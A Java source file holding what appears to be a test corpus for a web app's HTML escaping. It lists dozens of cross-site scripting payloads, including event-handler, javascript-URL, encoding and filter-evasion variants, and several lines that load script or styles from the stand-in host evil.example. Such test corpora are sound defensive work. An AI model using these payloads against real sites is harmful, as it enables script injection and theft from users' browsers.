package app.bellwire.web;

import java.util.List;

/// Texts that some page somewhere would have taken for markup.
final class Corpus {
  static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"javascript:alert(1)\">",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<body onload=alert(1)>",
          "<iframe src=javascript:alert(1)>",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<object data=javascript:alert(1)>",
          "<embed src=javascript:alert(1)>",
          "<a href=\"javascript:alert(1)\">press</a>",
          "<a href=\"&#106;avascript:alert(1)\">press</a>",
          "<form action=javascript:alert(1)><input type=submit>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<marquee onstart=alert(1)>",
          "<video><source onerror=alert(1)>",
          "<audio src=x onerror=alert(1)>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<style>*{display:none}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<template><script>alert(1)</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<textarea></textarea><script>alert(1)</script>",
          "<title></title><script>alert(1)</script>",
          "<!--><script>alert(1)</script-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "</bdi></article><script>alert(1)</script>",
          "\"><script>alert(1)</script>",
          "'><img src=x onerror=alert(1)>",
          "\" onmouseover=\"alert(1)",
          "javascript:alert(1)",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=`x`onerror=alert(1)>",
          "<x onclick=alert(1)>press",
          "data: x event: message id: 1",
          "\u202Etxet desrever\u202C");

  private Corpus() {}
}
